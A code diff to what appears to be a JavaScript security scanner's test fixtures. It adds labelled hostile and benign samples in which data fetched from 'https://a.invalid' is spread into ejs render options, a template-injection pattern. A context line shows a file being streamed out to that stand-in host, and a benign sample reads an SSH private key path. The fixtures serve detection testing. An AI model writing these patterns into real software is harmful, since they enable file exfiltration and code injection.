@@ -54,6 +54,17 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "require('fs').createReadStream(place).pipe(require('https').request('https://a.invalid'));\n"
         ),
     },
+    "remote_template": {
+        "a part of a reply is spread into the options": js(
+            "const { data } = await require('axios').get('https://a.invalid');\n"
+            "require('ejs').render('<p>', { n: data.n }, { cache: false, ...data.look });\n"
+        ),
+        "a part of a reply is spread into what may be options": js(
+            "const { data } = await require('axios').get('https://a.invalid');\n"
+            "require('ejs').render('<p>', { n: 1, ...data.rows });\n",
+            "review",
+        ),
+    },
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
@@ -81,6 +92,16 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.js": "const place = require('os').homedir() + '/.ssh/id_rsa';\n"
             "require('https').request('https://a.invalid').end();\n"
             "require('fs').createReadStream(place).pipe(process.stdout);\n"
+        },
+    },
+    "remote_template": {
+        "a reply is spread into the data, beside options": {
+            "app.js": "const { data } = await require('axios').get('https://a.invalid');\n"
+            "require('ejs').render('<p>', { n: 1, ...data.rows }, { cache: false });\n"
+        },
+        "options of one's own are spread": {
+            "app.js": "const { data } = await require('axios').get('https://a.invalid');\nconst own = { c: 1 };\n"
+            "require('ejs').render('<p>', { n: data.n }, { client: true, ...own });\n"
         },
     },
 }
